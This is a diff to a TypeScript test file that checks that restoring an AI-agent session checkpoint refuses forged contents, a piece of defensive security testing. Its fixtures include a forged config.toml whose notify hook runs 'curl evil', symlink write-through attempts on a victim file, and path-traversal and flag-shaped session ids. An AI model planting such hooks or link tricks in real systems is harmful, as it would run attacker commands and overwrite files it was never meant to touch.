@@ -2,12 +2,8 @@ import fs from "node:fs";
 import path from "node:path";
 import { describe, expect, it } from "vitest";
 import { decodeArchive, digestOf, encodeArchive } from "../../../runner-bridge/src/checkpoint/archive.ts";
-import {
-  claudeProjectSlug,
-  collectSession,
-  restoreSession,
-  sessionPlaces,
-} from "../../../runner-bridge/src/checkpoint/files.ts";
+import { claudeProjectSlug, collectSession, sessionPlaces } from "../../../runner-bridge/src/checkpoint/files.ts";
+import { restoreSession } from "../../../runner-bridge/src/checkpoint/restore.ts";
 import { tempDir } from "../harness/bridge.ts";
 
 const THREAD = "019a0000-1111-7222-8333-444455556666";
@@ -149,5 +145,82 @@ describe("ndjson: whatever --checkpoint names", () => {
     expect(tree(path.join(other, "ckpt"))).toEqual({ "a.txt": "a", "sub/b.txt": "b" });
     expect(collectSession(sessionPlaces("ndjson", {}, dir), "mine", "s-1")).toBeNull();
     expect(() => restoreSession(sessionPlaces("ndjson", {}, other), archive!)).toThrow(/pass --checkpoint PATH/);
+  });
+});
+
+describe("restoring a checkpoint the previous sandbox may have forged", () => {
+  const rollout = `sessions/2026/11/30/rollout-2026-11-30T00-00-01-${THREAD}.jsonl`;
+  const codexArchive = (...files: [string, string][]) => ({
+    provider: "codex",
+    session: THREAD,
+    files: files.map(([p, text]) => ({ root: "codex-home" as const, path: p, data: Buffer.from(text) })),
+  });
+  const codexPlaces = (home: string) => sessionPlaces("codex", { CODEX_HOME: home }, "/work");
+
+  it("refuses files collection never takes, before writing any of the others", () => {
+    const home = tempDir("codex-home-");
+    const forged = codexArchive([rollout, "{}\n"], ["config.toml", 'notify = ["sh", "-c", "curl evil"]\n']);
+    expect(() => restoreSession(codexPlaces(home), forged)).toThrow(
+      'the checkpoint holds "codex-home/config.toml", which a codex checkpoint never contains',
+    );
+    const otherThread = codexArchive(["sessions/2026/11/30/rollout-x-other-thread.jsonl", "{}\n"]);
+    expect(() => restoreSession(codexPlaces(home), otherThread)).toThrow(/never contains/);
+    expect(tree(home)).toEqual({});
+
+    const claude = tempDir("claude-");
+    const places = sessionPlaces("claude-code", { CLAUDE_CONFIG_DIR: claude }, "/work");
+    for (const [root, p] of [
+      ["claude-project", "settings.json"],
+      ["claude-project", "other-session.jsonl"],
+      ["codex-home", "sess-9.jsonl"],
+    ] as const) {
+      const archive = {
+        provider: "claude-code",
+        session: "sess-9",
+        files: [{ root, path: p, data: Buffer.from("{}") }],
+      };
+      expect(() => restoreSession(places, archive)).toThrow(/never contains/);
+    }
+    expect(tree(claude)).toEqual({});
+  });
+
+  it("never writes through a link: a linked directory or target is refused, a hard-linked file is replaced", () => {
+    const outside = tempDir("outside-");
+    const victim = path.join(outside, "victim.txt");
+    fs.writeFileSync(victim, "precious\n");
+
+    const linkedDir = tempDir("codex-home-");
+    fs.symlinkSync(outside, path.join(linkedDir, "sessions"));
+    expect(() => restoreSession(codexPlaces(linkedDir), codexArchive([rollout, "{}\n"]))).toThrow(
+      `restoring the checkpoint would write through the link ${path.join(linkedDir, "sessions")}`,
+    );
+
+    const linkedFile = tempDir("codex-home-");
+    fs.mkdirSync(path.dirname(path.join(linkedFile, rollout)), { recursive: true });
+    fs.symlinkSync(victim, path.join(linkedFile, rollout));
+    expect(() => restoreSession(codexPlaces(linkedFile), codexArchive([rollout, "forged\n"]))).toThrow(
+      /would write through the link/,
+    );
+    expect(fs.readFileSync(victim, "utf8")).toBe("precious\n");
+    expect(fs.readdirSync(outside)).toEqual(["victim.txt"]);
+
+    const hardLinked = tempDir("codex-home-");
+    fs.mkdirSync(path.dirname(path.join(hardLinked, rollout)), { recursive: true });
+    fs.linkSync(victim, path.join(hardLinked, rollout));
+    restoreSession(codexPlaces(hardLinked), codexArchive([rollout, "restored\n"]));
+    expect(fs.readFileSync(path.join(hardLinked, rollout), "utf8")).toBe("restored\n");
+    expect(fs.readFileSync(victim, "utf8")).toBe("precious\n");
+  });
+
+  it("a session id shaped like a flag or a path is neither collected nor restored", () => {
+    const home = tempDir("codex-home-");
+    write(path.join(home, "sessions/x/rollout-1---yolo.jsonl"), "{}\n");
+    const places = codexPlaces(home);
+    expect(collectSession(places, "codex", "--yolo")).toBeNull();
+    expect(collectSession(sessionPlaces("claude-code", { CLAUDE_CONFIG_DIR: home }, "/w"), "c", "../../x")).toBeNull();
+    const archive = { provider: "codex", session: "--yolo", files: [] };
+    expect(() => restoreSession(places, archive)).toThrow(
+      `the checkpoint's session id "--yolo" is not a codex thread id (it reads as a command-line flag)`,
+    );
   });
 });
